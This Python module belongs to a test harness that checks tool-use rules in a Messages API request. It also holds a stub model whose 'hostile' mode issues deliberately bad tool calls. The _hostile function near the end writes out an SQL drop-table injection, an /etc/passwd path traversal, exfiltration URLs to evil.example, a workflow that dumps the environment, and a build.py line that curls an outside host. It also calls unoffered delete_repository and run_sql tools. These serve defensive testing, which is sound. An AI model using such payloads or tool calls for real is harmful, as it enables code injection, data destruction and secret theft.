"""Tools in a Messages request: what the API asks of them, and what the stub in the model's place does with them.

Belongs here: the rules of `tools`, `tool_choice`, `tool_use` and `tool_result`, and the calls the stub makes. Does not
belong here: the rest of a request (`requests.py`), texts (`writer.py`), the protocol (`side.py`).

The honest stub asks once, for the names that the question's words are nearest to, then is done. The hostile one asks in
every turn for what it was not offered, with arguments that no schema allows.
"""

from __future__ import annotations

import json
import re
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any

NAME = re.compile(r"[a-zA-Z0-9_-]{1,128}")
CALLS_A_TURN = 3
_WORD = re.compile(r"[a-z]{3,}")
Refuse = Callable[[str], Exception]
Block = dict[str, Any]


# What the API refuses ------------------------------------------------------------------------------------------


def problem_of_tools(body: Mapping[str, Any]) -> str | None:
    """What is wrong with the tools of a request and with the exchanges about them; None where nothing is."""
    return next(_problems(body), None)


def _problems(body: Mapping[str, Any]) -> Iterator[str]:
    tools = body.get("tools") or []
    names = [tool.get("name") for tool in tools]
    for index, tool in enumerate(tools):
        if not NAME.fullmatch(str(tool.get("name"))):
            yield f"tools.{index}.custom.name: String should match pattern '^[a-zA-Z0-9_-]{{1,128}}$'"
        schema = tool.get("input_schema")
        if isinstance(schema, dict) and schema.get("type") != "object":
            yield f"tools.{index}.custom.input_schema.type: Input should be 'object'"
    if len(set(names)) != len(names):
        yield "tools: Tool names must be unique."
    yield from _choice(body.get("tool_choice"), names)
    yield from _exchanges(body["messages"], bool(tools))


def _choice(choice: Any, names: Sequence[Any]) -> Iterator[str]:
    if choice is None:
        return
    kind = choice.get("type") if isinstance(choice, dict) else None
    if kind not in ("auto", "any", "tool", "none"):
        yield f"tool_choice: Input tag {kind!r} does not match any of the expected tags: 'auto', 'any', 'tool', 'none'"
    elif not names:
        yield "tool_choice: may only be specified while providing tools."
    elif kind == "tool" and choice.get("name") not in names:
        yield f"Tool '{choice.get('name')}' not found in provided tools"


def _exchanges(messages: Sequence[Mapping[str, Any]], offered: bool) -> Iterator[str]:
    """Each call is answered in the very next message, by results that stand first in it."""
    waiting: list[str] = []
    for index, message in enumerate(messages):
        content = message.get("content")
        blocks = [block for block in content if isinstance(block, dict)] if isinstance(content, list) else []
        results = [block for block in blocks if block.get("type") == "tool_result"]
        answered = [block.get("tool_use_id") for block in results]
        if message["role"] == "user":
            for place, block in enumerate(results):
                if block.get("tool_use_id") not in waiting:
                    yield (
                        f"messages.{index}.content.{place}: unexpected `tool_use_id` found in `tool_result` blocks:"
                        f" {block.get('tool_use_id')}. Each `tool_result` block must have a corresponding `tool_use`"
                        " block in the previous message."
                    )
            missing = [each for each in waiting if each not in answered]
            if missing or (results and blocks[: len(results)] != results):
                yield (
                    f"messages.{index - 1}: `tool_use` ids were found without `tool_result` blocks immediately after:"
                    f" {', '.join(missing or waiting)}. Each `tool_use` block must have a corresponding `tool_result`"
                    " block in the next message."
                )
            if len(set(answered)) != len(answered):
                yield f"messages.{index}: each tool_use must have a single result."
            waiting = []
        elif results:
            yield f"messages.{index}: `tool_result` blocks can only be in `user` messages"
        calls = [block for block in blocks if block.get("type") == "tool_use"]
        if calls and message["role"] != "assistant":
            yield f"messages.{index}: `tool_use` blocks can only be in `assistant` messages"
        if (calls or results) and not offered:
            yield "Requests which include `tool_use` or `tool_result` blocks must define tools."
        for place, block in enumerate(calls):
            if not NAME.fullmatch(str(block.get("id"))) or not isinstance(block.get("name"), str):
                yield f"messages.{index}.content.{place}.tool_use.id: String should match pattern '^[a-zA-Z0-9_-]+$'"
            if not isinstance(block.get("input"), dict):
                yield f"messages.{index}.content.{place}.tool_use.input: Input should be a valid dictionary"
        waiting = [str(block.get("id")) for block in calls]
    if waiting:
        yield (
            "`tool_use` ids were found without `tool_result` blocks immediately after:"
            f" {', '.join(waiting)}. Each `tool_use` block must have a corresponding `tool_result` block in the next"
            " message."
        )


# What the stub asks for ---------------------------------------------------------------------------------------------


def calls_of(body: Mapping[str, Any], mode: str) -> list[tuple[str, dict[str, Any]]]:
    """What the stub asks for in this turn, as (name, arguments); nothing where it is done."""
    tools = [tool for tool in body.get("tools") or [] if isinstance(tool.get("input_schema"), dict)]
    turn = sum(
        any(isinstance(block, dict) and block.get("type") == "tool_result" for block in message["content"])
        for message in body["messages"]
        if isinstance(message.get("content"), list)
    )
    if not tools or (body.get("tool_choice") or {}).get("type") == "none":
        return []
    if mode == "hostile":
        return _hostile(tools, turn)
    prompt = _prompt(body)
    if turn == 0:
        return _nearest(tools, prompt)
    proposing = next((tool for tool in tools if _proposes(tool)), None)
    if turn == 1 and proposing is not None and prompt.get("example_path"):
        number = zlib.crc32(json.dumps(prompt, sort_keys=True).encode())
        text = f"# Proposal\n\nWhat the request asks for, and where it belongs.\n\nReference {number:08x}.\n"
        return [(proposing["name"], {"files": [{"path": prompt["example_path"], "content": text}]})]
    return []


def _prompt(body: Mapping[str, Any]) -> dict[str, Any]:
    content = body["messages"][0].get("content")
    try:
        found = json.loads(content) if isinstance(content, str) else {}
    except ValueError:
        found = {}
    return found if isinstance(found, dict) else {}


def _nearest(tools: Sequence[Mapping[str, Any]], prompt: Mapping[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    """The tools whose choices share most words with the question, each with its nearest choice."""
    question = set(_WORD.findall(json.dumps(prompt.get("question", "")).lower()))
    found = []
    for tool in tools:
        for name, part in (tool["input_schema"].get("properties") or {}).items():
            scored = [
                (len(question & set(str(choice).replace("-", "_").split("_"))), str(choice))
                for choice in part.get("enum") or ()
            ]
            scored.sort(key=lambda each: (-each[0], each[1]))
            if scored and scored[0][0]:
                required = tool["input_schema"].get("required") or ()
                more = {other: _least(rest) for other, rest in tool["input_schema"]["properties"].items()
                        if other != name and other in required}  # fmt: skip
                found.append((scored[0][0], str(tool["name"]), {name: scored[0][1], **more}))
                break
            if part.get("type") == "string" and name == "words" and question:
                found.append((1, str(tool["name"]), {name: " ".join(sorted(question)[:6])}))
                break
    found.sort(key=lambda each: -each[0])
    return [(name, arguments) for _, name, arguments in found[:CALLS_A_TURN]]


def _least(part: Mapping[str, Any]) -> Any:
    return (
        part.get("enum") or [{"string": "", "integer": 0, "array": [], "boolean": False}.get(part.get("type", ""), "")]
    )[0]


def _proposes(tool: Mapping[str, Any]) -> bool:
    files = (tool["input_schema"].get("properties") or {}).get("files") or {}
    return "path" in ((files.get("items") or {}).get("properties") or {})


def _hostile(tools: Sequence[Mapping[str, Any]], turn: int) -> list[tuple[str, dict[str, Any]]]:
    """Everything a caller must refuse: names nobody offered, arguments outside their schema, paths and texts to
    harm."""
    evil = (
        "'; drop table ops.work_orders; --", "../../etc/passwd", "net_sales\x00", "{{c:made_up.value}}", "@everyone",
        "https://evil.example/?d=", "x" * 5_000,
    )  # fmt: skip
    word = evil[turn % len(evil)]
    files = [
        {"path": ".github/workflows/own.yml", "content": "on: push\njobs: {x: {steps: [{run: env}]}}"},
        {"path": "../outside.md", "content": "x"},
        {"path": "docs/proposals/../../setup.py", "content": "import os"},
        {"path": "ops_platform/build.py", "content": "import os; os.system('curl https://evil.example')"},
        {"path": "docs/proposals/ok.md", "content": "[click](https://evil.example) @everyone <img src=x>"},
    ]  # fmt: skip
    calls: list[tuple[str, dict[str, Any]]] = [("delete_repository", {"name": word}), ("run_sql", {"sql": word})]
    for tool in tools:
        properties = tool["input_schema"].get("properties") or {}
        arguments = dict.fromkeys(properties, word) | {"extra": word}
        if _proposes(tool):
            arguments = {"files": files}  # type: ignore[dict-item]
        calls.append((str(tool["name"]), arguments))
    return calls
